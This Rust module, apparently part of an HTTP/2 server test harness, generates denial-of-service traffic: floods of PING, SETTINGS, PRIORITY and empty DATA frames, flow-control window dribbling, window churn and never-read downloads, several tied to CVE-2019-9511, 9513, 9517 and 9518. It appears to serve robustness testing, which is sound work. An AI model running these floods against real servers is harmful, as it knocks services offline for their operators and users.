//! Floods of frames that carry nothing, and windows that are played with.

use std::sync::Arc;

use super::frames::{
    DATA, GOAWAY, INITIAL_WINDOW_SIZE, PING, PRIORITY, PRIORITY_UPDATE, SETTINGS, frame, get, greeting, post, settings,
    window,
};
use super::site::{File, LARGE};
use super::stage::Stage;
use super::wire::attack;

/// Frames in one write.
const BATCH: usize = 200;

/// The same frame again and again, on four connections.
pub(crate) async fn flood(stage: &Arc<Stage>, reads: bool, one: Vec<u8>) {
    let batch = one.repeat(BATCH);
    attack(stage, 4, reads, greeting(&[]), async |wire| {
        loop {
            wire.send(&batch).await?;
        }
    })
    .await;
}

pub(crate) fn ping() -> Vec<u8> {
    frame(PING, 0, 0, b"12345678")
}

pub(crate) fn empty_settings() -> Vec<u8> {
    frame(SETTINGS, 0, 0, &[])
}

/// CVE-2019-9513: a tree of priorities that is turned over and over.
pub(crate) fn priority() -> Vec<u8> {
    [frame(PRIORITY, 0, 3, &[0, 0, 0, 5, 255]), frame(PRIORITY, 0, 5, &[0, 0, 0, 3, 255])].concat()
}

pub(crate) fn priority_update() -> Vec<u8> {
    frame(PRIORITY_UPDATE, 0, 0, &[0, 0, 0, 3, b'u', b'=', b'0'])
}

pub(crate) fn tiny_window() -> Vec<u8> {
    window(0, 1)
}

pub(crate) fn unknown() -> Vec<u8> {
    frame(0xbb, 0, 0, b"")
}

pub(crate) fn goaway() -> Vec<u8> {
    frame(GOAWAY, 0, 0, &[0; 8])
}

/// CVE-2019-9518: frames without content on a stream that stays open; also with padding alone.
pub(crate) async fn empty_data(stage: &Arc<Stage>, padded: bool) {
    let one = if padded { frame(DATA, 8, 1, &[0]) } else { frame(DATA, 0, 1, &[]) };
    let batch = one.repeat(BATCH);
    attack(stage, 4, true, greeting(&[]), async |wire| {
        wire.send(&post(1, "/upload", &[])).await?;
        loop {
            wire.send(&batch).await?;
        }
    })
    .await;
}

/// A hundred open downloads, whose windows are opened and closed by SETTINGS: each is work on every stream.
pub(crate) async fn window_churn(stage: &Arc<Stage>) {
    let flip = [settings(&[(INITIAL_WINDOW_SIZE, 1)]), settings(&[(INITIAL_WINDOW_SIZE, 0)])].concat().repeat(50);
    attack(stage, 4, true, greeting(&[(INITIAL_WINDOW_SIZE, 0)]), async |wire| {
        wire.send(&downloads(LARGE, 100)).await?;
        loop {
            wire.send(&flip).await?;
        }
    })
    .await;
}

/// CVE-2019-9511: the window is opened byte by byte.
pub(crate) async fn dribble(stage: &Arc<Stage>, file: File) {
    attack(stage, 10, true, greeting(&[(INITIAL_WINDOW_SIZE, 0)]), async |wire| {
        wire.send(&downloads(file, 100)).await?;
        let bytes: Vec<u8> = (0..100).flat_map(|n| window(2 * n + 1, 1)).collect();
        loop {
            wire.send(&bytes).await?;
        }
    })
    .await;
}

/// CVE-2019-9517: all windows wide open, much is asked for, and nothing is read.
pub(crate) async fn never_read(stage: &Arc<Stage>, file: File) {
    attack(stage, 20, false, greeting(&[(INITIAL_WINDOW_SIZE, 1 << 30)]), async |wire| {
        wire.send(&window(0, 1 << 30)).await?;
        wire.send(&downloads(file, 50)).await
    })
    .await;
}

/// Much is asked for, and no window is opened.
pub(crate) async fn no_window(stage: &Arc<Stage>) {
    attack(stage, 20, true, greeting(&[(INITIAL_WINDOW_SIZE, 0)]), async |wire| wire.send(&downloads(LARGE, 50)).await)
        .await;
}

fn downloads(file: File, count: u32) -> Vec<u8> {
    (0..count).flat_map(|n| get(2 * n + 1, file.path)).collect()
}

/// Responses that wait behind a client who sends PINGs instead of window: nothing of it is progress.
pub(crate) async fn pings_for_window(stage: &Arc<Stage>) {
    attack(stage, 10, true, greeting(&[(INITIAL_WINDOW_SIZE, 0)]), async |wire| {
        wire.send(&downloads(LARGE, 10)).await?;
        loop {
            wire.send(&ping()).await?;
            tokio::time::sleep(std::time::Duration::from_millis(50)).await;
        }
    })
    .await;
}

/// Heads of requests without end, all streams at once, as fast as they are answered: what an honest client might do.
pub(crate) async fn requests(stage: &Arc<Stage>) {
    attack(stage, 4, true, greeting(&[]), async |wire| {
        let mut stream = 1;
        loop {
            let batch: Vec<u8> = (0..50).flat_map(|n| get(stream + 2 * n, "/small.png")).collect();
            wire.send(&batch).await?;
            let last = stream + 98;
            while wire.next().await?.stream != last {}
            stream += 100;
        }
    })
    .await;
}
